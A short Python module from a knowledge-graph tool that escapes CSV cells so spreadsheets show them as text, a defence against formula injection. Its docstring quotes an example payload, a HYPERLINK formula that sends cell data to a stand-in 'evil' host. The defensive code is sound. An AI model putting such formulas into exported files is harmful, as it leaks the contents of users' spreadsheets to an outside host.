"""CSV that is safe to open in a spreadsheet.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return) as a formula: a transcript label such as
``=HYPERLINK("http://evil/?"&A1)`` would run when the CSV is opened. CSV meant for
people (``kg entities --format csv``, ``kg query --format csv``) prefixes such cells
with ``'``, which spreadsheets show as text (OWASP's advice); ``--exact-csv`` and the
CSV that feeds programs (the SPARQL endpoint, the Neo4j import files) keep the exact
data.
"""

from __future__ import annotations

__all__ = ["FORMULA_STARTS", "spreadsheet_cell"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: object) -> str:
    """``value`` as a CSV cell a spreadsheet shows as text: ``'`` before a formula start.

    >>> spreadsheet_cell("=1+1"), spreadsheet_cell("OpenAI"), spreadsheet_cell(3)
    ("'=1+1", 'OpenAI', '3')
    """
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text
